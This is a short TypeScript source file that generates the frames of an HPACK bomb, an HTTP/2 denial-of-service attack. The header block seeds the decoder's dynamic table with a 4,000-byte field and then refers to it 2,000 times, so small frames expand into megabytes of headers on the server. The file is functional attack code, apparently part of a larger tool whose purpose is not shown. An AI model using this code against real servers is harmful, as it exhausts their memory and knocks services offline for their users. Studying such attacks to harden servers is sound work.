import { Flag } from './Flag.ts';
import { frame } from './frame.ts';
import { FrameType } from './FrameType.ts';
import { headerBlock } from './headerBlock.ts';
import { indexed } from './indexed.ts';
import { indexedLiteral } from './indexedLiteral.ts';
import { request } from './request.ts';

/**
 * One stream of an HPACK bomb: a GET of /bomb-ID whose header block refers 2 000 times to dynamic
 * table entry 62, two bytes on the wire for a field of 4 000 bytes, sent as HEADERS then
 * CONTINUATION frames of 16 KiB. `seed` (the connection's first bomb) puts the 4 000-byte
 * `x-bomb` field into the table first; later streams only refer to it.
 */
export function hpackBomb(streamId: number, seed: boolean): Buffer[] {
  const refs = Buffer.concat(Array.from({ length: 2_000 }, () => indexed(62)));
  const block = Buffer.concat([headerBlock(request('GET', `/bomb-${streamId}`)), seed ? indexedLiteral('x-bomb', 'b'.repeat(4_000)) : Buffer.alloc(0), refs]);
  const pieces: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_384) pieces.push(block.subarray(at, at + 16_384));
  return pieces.map((piece, i) =>
    frame(i === 0 ? FrameType.HEADERS : FrameType.CONTINUATION, (i === pieces.length - 1 ? Flag.END_HEADERS : 0) | (i === 0 ? Flag.END_STREAM : 0), streamId, piece),
  );
}
